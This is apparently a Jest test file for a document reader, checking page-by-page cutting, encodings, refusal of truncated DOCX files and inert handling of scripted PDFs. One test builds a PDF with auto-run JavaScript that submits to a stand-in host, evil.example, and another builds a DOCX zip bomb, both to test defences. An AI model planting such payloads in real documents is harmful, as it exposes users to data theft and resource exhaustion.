import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { DocumentError } from '../../documents/errors.ts';
import { readDocument } from '../../documents/read.ts';
import { bareDocx, makeZip } from '../../documents/testing/docx.ts';
import { makePdf, pageContent } from '../../documents/testing/pdf.ts';
import { cutSections } from './cut.ts';

const never = () => new AbortController().signal;
const cut = async (bytes: Uint8Array, name: string) =>
  cutSections(await readDocument(bytes, name, never()), name);
const refused = (bytes: Uint8Array, name: string) => expect(readDocument(bytes, name, never())).rejects;

// What readers refuse by themselves is tested beside them: scans, passwords and broken files in `pdf.test.ts`,
// `docx.test.ts` and `read.test.ts`.
describe('bad input', () => {
  it('is cut page by page in a PDF of a thousand pages', async () => {
    const pages = Array.from({ length: 1_000 }, (_, at) =>
      pageContent([
        { text: `§ ${at + 1} Regelung der Sache`, y: 760, size: 14 },
        ...Array.from({ length: 30 }, (__, line) => ({
          text: `Zeile ${line} der Regelung ${at + 1} sagt, was in diesem Fall zu tun ist, bis zum Rand.`,
          y: 730 - line * 14,
        })),
        { text: String(at + 1), x: 290, y: 30 },
      ]),
    );
    const { pages: count, sections } = await cut(makePdf(pages), 'groß.pdf');
    expect(count).toBe(1_000);
    const wrong = sections.filter(({ path, pages: own, text }) => {
      const page = Number(/^§ (\d+) /.exec(path[0] ?? '')?.[1]);
      return own?.first !== page || own.last !== page || !text.includes(`der Regelung ${page} sagt`);
    });
    expect(wrong).toEqual([]);
    expect(new Set(sections.map(({ path }) => path[0])).size).toBe(1_000);
  });

  it('is read and not run in a PDF with scripts', async () => {
    const code = "app.alert\\(1\\); this.submitForm\\('https://evil.example'\\); globalThis.ran = true;";
    const action = `<< /S /JavaScript /JS (${code}) >>`;
    const pdf = makePdf([pageContent([{ text: 'Nur der Text zählt.', y: 700 }])]).toString('latin1');
    const catalog = `<< /Type /Catalog /OpenAction ${action} /AA << /WC ${action} >> /Names << /JavaScript << /Names [(a) ${action}] >> >> /Pages 2 0 R >>`;
    const scripted = Buffer.from(pdf.replace('<< /Type /Catalog /Pages 2 0 R >>', catalog), 'latin1');
    expect(scripted.toString('latin1')).toContain('OpenAction');
    const { sections, addresses } = await cut(scripted, 'x.pdf');
    expect(sections).toEqual([{ path: [], text: 'Nur der Text zählt.', pages: { first: 1, last: 1 } }]);
    expect(addresses).toEqual([]);
    expect('ran' in globalThis).toBe(false);
  });

  it('is not inflated in a DOCX that is a bomb', async () => {
    const bomb = makeZip([{ name: 'word/document.xml', data: Buffer.alloc(200 * 1024 * 1024, 0x20) }]);
    expect(bomb.length).toBeLessThan(300_000);
    await refused(bomb, 'x.docx').toEqual(new DocumentError('file_too_large'));
    const lying = makeZip([
      { name: 'word/document.xml', data: Buffer.alloc(60 * 1024 * 1024, 0x20), size: 500 },
    ]);
    await refused(lying, 'x.docx').toBeInstanceOf(DocumentError);
  });

  it('is named as broken where the end of a DOCX is missing', async () => {
    const docx = bareDocx(`<w:p><w:r><w:t>${'Text '.repeat(2_000)}</w:t></w:r></w:p>`);
    for (const part of [0.2, 0.5, 0.9, 0.99]) {
      await refused(docx.subarray(0, Math.floor(docx.length * part)), 'x.docx').toEqual(
        new DocumentError('file_broken'),
      );
    }
  });
});

describe('a folder of mixed encodings', () => {
  const text = '§ 1 Größe der Straße\n\nÄrger gibt es „überall“ – für 5 €.';
  let folder = '';
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'encodings-'));
    const mark = (bytes: number[], rest: Buffer) => Buffer.concat([Buffer.from(bytes), rest]);
    const wide = Buffer.from(text, 'utf16le');
    const western = text.replace('„', '\x84').replace('“', '\x93').replace('–', '\x96').replace('€', '\x80');
    writeFileSync(join(folder, 'utf8.txt'), text);
    writeFileSync(join(folder, 'utf8-bom.txt'), mark([0xef, 0xbb, 0xbf], Buffer.from(text)));
    writeFileSync(join(folder, 'utf16le.txt'), mark([0xff, 0xfe], wide));
    writeFileSync(join(folder, 'utf16be.txt'), mark([0xfe, 0xff], Buffer.from(wide).swap16()));
    writeFileSync(join(folder, 'windows-1252.txt'), Buffer.from(western, 'latin1'));
  });
  afterAll(() => rmSync(folder, { recursive: true }));

  it.each(['utf8', 'utf8-bom', 'utf16le', 'utf16be', 'windows-1252'])('%s', async (name) => {
    const { sections } = await cut(readFileSync(join(folder, `${name}.txt`)), `${name}.txt`);
    expect(sections).toEqual([
      { path: ['§ 1 Größe der Straße'], text: 'Ärger gibt es „überall“ – für 5 €.', pages: null },
    ]);
  });
});
